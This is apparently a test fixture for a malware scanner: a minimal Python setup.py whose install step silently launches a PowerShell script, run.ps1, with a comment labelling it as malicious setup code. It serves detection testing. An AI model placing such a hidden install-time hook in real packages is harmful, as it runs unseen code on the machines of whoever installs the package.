import subprocess
from setuptools import setup

subprocess.Popen(["powershell", "-File", "run.ps1"]) # expect: malicious-command/setup-py-code
setup(name="start", version="1.0")
